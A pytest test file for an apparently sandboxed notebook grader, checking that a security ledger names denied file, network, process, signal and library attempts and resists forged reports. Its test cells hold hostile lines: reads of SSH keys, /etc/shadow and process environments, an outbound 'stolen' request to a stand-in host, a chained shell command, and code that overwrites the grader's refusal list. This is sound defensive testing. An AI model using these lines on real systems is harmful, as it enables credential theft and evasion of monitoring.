"""What a notebook tried in vain, how its boxes ended and what they took: told beside the answers, at nobody's cost."""

from __future__ import annotations

import textwrap
import time
from collections.abc import Callable
from dataclasses import replace

import pytest
from rpc.conftest import QUICK as USUAL

from grader.failed import Failed
from grader.rpc import Session, Student
from grader.sandbox import Warm
from grader.security import Ending, Kind, Security

HELPER = """
import contextlib, ctypes, os, socket, subprocess, urllib.request
def tried(what, *arguments, **options):
    with contextlib.suppress(OSError):
        what(*arguments, **options)
"""
HOSTILE = """
for _ in range(3):
    tried(open, "/root/.ssh/id_rsa")
tried(open, b"/etc/shadow", "rb")
tried(os.open, "../../etc/gshadow", os.O_RDONLY)
tried(open, "/etc/planted", "w")
tried(os.listdir, "/none/such")
tried(open, "/proc/1/environ", "rb")
tried(socket.socket().connect, ("127.0.0.1", 80))
tried(socket.getaddrinfo, "example.org", 443)
tried(urllib.request.urlopen, "http://192.0.2.1/?stolen=1")
tried(subprocess.run, ["curl", "http://example.org"], capture_output=True)
tried(subprocess.run, "true; false", shell=True)
tried(os.system, "true")
tried(os.kill, 4242, 9)
tried(ctypes.CDLL, "./own.so")
"""
HONEST = """
!ls / > listed
lines = !cat listed
import io, multiprocessing, platform, tempfile
import matplotlib.pyplot as plt, numpy as np, pandas as pd, torch
from torch.utils.data import DataLoader, TensorDataset
loader = DataLoader(TensorDataset(torch.zeros(8, 2)), batch_size=2, num_workers=2)
assert sum(len(part[0]) for part in loader) == 8
child = multiprocessing.Process(target=print)
child.start(); child.terminate(); child.join()
platform.platform()
pd.DataFrame({"a": [1]}).to_csv("a.csv"); pd.read_csv("a.csv")
torch.save(torch.zeros(2), "/tmp/a.pt"); torch.load("/tmp/a.pt")
with tempfile.TemporaryDirectory() as folder: np.save(f"{folder}/a.npy", np.zeros(2))
plt.title("\uac00"); plt.plot([1, 2]); plt.show()
try: open("data/none.csv")
except FileNotFoundError as error: assert error.errno == 2
"""
Run = Callable[..., Security]
QUICK = replace(USUAL, notebook_seconds=60, call_seconds=20, suite_seconds=60)  # of a busy machine


@pytest.fixture
def run(sealed: Warm) -> Run:
    """The security report of a notebook of these cells, of which then some functions are called."""

    def run(*cells: str, calls: tuple[str, ...] = ()) -> Security:
        sources = [(index, textwrap.dedent(cell).strip("\n")) for index, cell in enumerate(cells)]
        with Session(sealed, QUICK, sources) as session:
            session.run_notebook()
            assert [cell.fault for cell in session.cells if cell.fault] == []
            for name in calls:
                try:
                    Student(session, {})._value(["name", name], name, (), {})
                except Failed:
                    pass
        return session.ledger.closed()

    return run


def test_a_hostile_notebook_s_attempts_are_named(run: Run) -> None:
    found = run(HELPER, HOSTILE)
    assert [(one.kind.value, one.what, one.times) for one in found.attempts] == [
        ("file", "/root/.ssh/id_rsa", 3),
        ("file", "/etc/shadow", 1),
        ("file", "/etc/gshadow", 1),
        ("file", "/etc/planted", 1),
        ("file", "/none/such", 1),
        ("process", "/proc/1/environ", 1),
        ("network", "127.0.0.1:80", 1),
        ("network", "example.org:443", 1),
        ("network", "http://192.0.2.1/?stolen=1", 1),
        ("network", "192.0.2.1:80", 2),
        ("program", "curl http://example.org", 1),
        ("program", "true; false", 1),
        ("program", "true", 1),
        ("signal", "pid 4242, signal 9", 1),
        ("library", "./own.so", 1),
    ]
    assert (found.endings, found.left_out, found.nonsense) == ((), 0, False)


def test_of_an_honest_notebook_nothing_is_told(run: Run) -> None:
    found = run(HONEST)
    assert found.quiet, found.attempts


def test_a_command_that_the_product_skips_is_named_as_just_that(run: Run) -> None:
    found = run("!pip install -q torch\n%pip install pandas\nsaid = !wget example.org")
    assert [(one.kind, one.what) for one in found.attempts] == [
        (Kind.COMMAND, "pip install -q torch"),
        (Kind.COMMAND, "pip install pandas"),
        (Kind.COMMAND, "wget example.org"),
    ]


def test_what_a_call_tries_is_told_at_the_end(run: Run) -> None:
    found = run(HELPER, "def peek():\n    for _ in range(5): tried(open, '/etc/shadow')", calls=("peek", "peek"))
    assert [(one.what, one.times) for one in found.attempts] == [("/etc/shadow", 10)]


def test_many_attempts_are_counted_and_few_kept(run: Run) -> None:
    found = run(HELPER, "for n in range(20_000): tried(open, f'/none/{n}')")
    assert (len(found.attempts), found.left_out) == (50, 19_950)


def test_attempts_before_an_end_are_known_and_the_end_with_them(run: Run) -> None:
    found = run(HELPER, "tried(open, '/etc/shadow')", "os._exit(3)")
    assert [one.what for one in found.attempts] == ["/etc/shadow"]
    assert found.endings == (Ending(exit=3),)


def test_a_broken_limit_and_a_signal_are_told(run: Run) -> None:
    calls = ("fill", "crash")
    found = run(
        "import ctypes\ndef fill():\n    kept = bytearray(b'1') * (900 << 20)\n    while True: pass\n"
        "def crash(): ctypes.string_at(8)",
        calls=calls,
    )
    assert Ending(signal="SIGSEGV") in found.endings
    assert Ending("memory_mb", 700) in found.endings


def test_memory_of_a_moment_is_seen_by_the_kernel(run: Run) -> None:
    """However short: the watcher looks only ten times a second."""
    small, large = run("pass"), run("len(bytearray(b'1') * (200 << 20))")
    assert 180 < large.peak_mb - small.peak_mb < 300
    assert small.processes >= 1


def test_processes_and_threads_are_counted_while_they_live(sealed: Warm) -> None:
    source = "import threading\nstop = threading.Event()\nfor _ in range(5): threading.Thread(target=stop.wait, daemon=True).start()"
    with Session(sealed, QUICK, [(0, source)]) as session:
        session.run_notebook()
        assert session._box is not None
        deadline = time.monotonic() + 40
        while session._box.processes < 6 and time.monotonic() < deadline:
            time.sleep(0.02)
    assert session.ledger.closed().processes >= 6


FORGERIES = {
    "another's list": "noted.refusals.as_data = lambda: {'attempts': [['file', '/home/somebody', 5]], 'left_out': 0}",
    "nonsense": "noted.refusals.as_data = lambda: {'attempts': 'x' * 10_000, 'score': 100}",
    "an error": "noted.refusals.as_data = lambda: 1 / 0",
    "an end": "import os\nnoted.refusals.as_data = lambda: os._exit(0)",
    "a wait": "import time\nnoted.refusals.as_data = lambda: time.sleep(60)",
}


@pytest.mark.parametrize("forgery", FORGERIES.values(), ids=FORGERIES)
def test_a_forged_list_changes_no_answer(sealed: Warm, forgery: str) -> None:
    source = f"from grader.inside import refusals as noted\n{forgery}\ndef double(x): return 2 * x"
    with Session(sealed, QUICK, [(0, source)]) as session:
        session.run_notebook()
        assert Student(session, {}).double(4) == 8
        assert session.cells[0].status == "ok"
    found = session.ledger.closed()
    assert found.nonsense is ("somebody" not in forgery)
    assert found.endings == ()
